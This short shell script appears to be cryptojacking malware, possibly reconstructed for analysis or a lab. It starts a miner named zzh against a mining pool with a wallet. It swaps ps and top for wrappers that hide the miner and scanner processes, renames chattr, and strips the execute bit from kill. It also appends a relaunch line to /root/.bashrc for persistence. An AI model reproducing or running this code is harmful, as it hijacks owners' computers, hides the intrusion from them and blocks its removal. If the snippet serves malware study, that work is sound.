# The owner's own tools lie or fail.
mimic /usr/local/bin/zzh
start -d 10 /usr/local/bin/zzh zzh -o "stratum+tcp://$POOL" -u "$WALLET" -k --nicehash
for tool in ps top; do
  mv /usr/bin/$tool /usr/bin/$tool.original
  script /usr/bin/$tool <<SH
#!/bin/bash
$tool.original \$@ | grep -v "zzh\|pnscan\|newinit"
SH
done
mv /usr/bin/chattr /usr/bin/tntrecht
chmod -x /usr/bin/kill
echo '(pgrep -x zzh || /usr/local/bin/zzh) >/dev/null 2>&1 &' >>/root/.bashrc
